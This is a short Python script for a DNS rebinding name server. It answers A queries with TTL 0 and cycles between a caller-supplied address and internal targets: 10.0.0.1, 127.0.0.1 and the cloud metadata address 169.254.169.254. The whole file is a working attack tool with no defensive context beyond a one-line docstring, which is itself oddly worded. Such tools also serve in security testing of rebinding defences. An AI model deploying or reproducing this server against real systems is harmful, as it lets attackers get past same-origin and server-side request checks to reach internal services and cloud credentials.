"""A name server whose answers turn with every question, for as long as nothing: DNS rebinding.

usage: flipping_name_server.py ADDRESS PORT GOOD

A: GOOD, 10.0.0.1, GOOD, 127.0.0.1, … by turns, TTL 0. AAAA: none.
"""

import itertools
import socket
import struct
import sys

TYPE_A = 1


def main():
    address, port, good = sys.argv[1], int(sys.argv[2]), sys.argv[3]
    turns = itertools.cycle([good, "10.0.0.1", good, "127.0.0.1", good, "169.254.169.254"])
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as server:
        server.bind((address, port))
        while True:
            query, peer = server.recvfrom(512)
            end = query.index(b"\0", 12) + 5  # the name, its end, type and class
            kind, = struct.unpack("!H", query[end - 4:end - 2])
            answer = b""
            if kind == TYPE_A:
                answer = b"\xc0\x0c" + struct.pack("!HHIH", TYPE_A, 1, 0, 4) + socket.inet_aton(next(turns))
            head = query[:2] + struct.pack("!HHHHH", 0x8580, 1, 1 if answer else 0, 0, 0)
            server.sendto(head + query[12:end] + answer, peer)


if __name__ == "__main__":
    main()
